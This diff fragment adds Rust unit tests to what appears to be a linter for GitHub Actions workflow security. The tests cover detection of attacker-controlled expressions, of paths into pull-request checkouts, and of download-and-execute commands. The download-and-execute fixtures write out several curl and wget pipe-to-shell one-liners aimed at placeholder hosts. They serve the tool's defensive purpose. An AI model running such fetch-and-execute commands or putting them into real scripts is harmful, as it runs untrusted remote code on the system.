+            "github.event.pull_request.number",
+            "steps.x.outputs.title",
+            "github.event.workflow_run.id",
+            "github.event.repository.name",
+        ] {
+            assert!(attacker_controlled(ok).is_none(), "{ok}");
+        }
+    }
+
+    #[test]
+    fn download_and_execute_forms() {
+        for bad in [
+            "curl -fsSL https://x.example/install.sh | sh",
+            "curl -sSf https://sh.rustup.rs | sudo -E bash -s -- -y",
+            "wget -qO- https://x.example/i | bash",
+            "bash <(curl -s https://x.example/i.sh)",
+            "sh -c \"$(curl -fsSL https://x.example/i.sh)\"",
+            "curl -fsSLo install.sh https://x.example/i.sh\nbash install.sh",
+            "curl -o /tmp/i.sh https://x.example/i.sh\nchmod +x /tmp/i.sh\n/tmp/i.sh --yes",
+            "wget https://x.example/setup.py\npython3 setup.py",
+            "curl -LO https://x.example/get.sh && sh get.sh",
+        ] {
+            assert!(downloads_and_runs(bad).is_some(), "{bad}");
+        }
+        for ok in [
+            "curl --fail -d \"$body\" \"$URL/pods\"",
+            "curl -o x.tar.gz https://x.example/x.tar.gz\ntar -xf x.tar.gz",
+            "curl -o /tmp/x.tgz https://x.example/x.tgz\ntar -xf /tmp/x.tgz -C /opt",
+            "curl -o /tmp/i.sh https://x.example/i.sh\nchmod +x /tmp/i.sh",
+            "curl -fsSLo i.sh https://x.example/i.sh\necho \"$SUM  i.sh\" | sha256sum -c -\nbash i.sh",
+            "gh api repos/x/y | jq .id",
+            "echo curl | tee log",
+        ] {
+            assert!(downloads_and_runs(ok).is_none(), "{ok}");
+        }
+    }
+
+    #[test]
+    fn paths_into_checkouts() {
+        let pr = vec!["pr".to_owned()];
+        assert_eq!(
+            points_into("${{ github.workspace }}/pr/bin:/usr/bin", &pr, ".").as_deref(),
+            Some("pr")
+        );
+        assert!(points_into("$GITHUB_WORKSPACE/trusted/bin:$PATH", &pr, ".").is_none());
+        assert!(points_into("/home/runner/.cargo", &pr, ".").is_none());
+        assert!(points_into("../pr/wrap.sh", &pr, "trusted").is_some());
+        assert!(points_into("../pr/wrap.sh", &pr, ".").is_none());
+        assert_eq!(
+            mentions_checkout("echo \"X=$(cat pr/rust-toolchain)\" >> $GITHUB_ENV", &pr).as_deref(),
+            Some("pr")
+        );
+        assert!(mentions_checkout("echo pr >> $GITHUB_ENV", &pr).is_none());
+    }
+
+    #[test]
+    fn every_rule_has_a_docs_heading() {
+        let docs = include_str!("../../../docs/contracts.md");
+        for rule in super::super::rules::RULES {
+            assert!(
+                docs.lines().any(|l| l.trim() == format!("### {}", rule.id)),
+                "docs/contracts.md has no `### {}` heading",
+                rule.id
+            );
+        }
+    }
+}
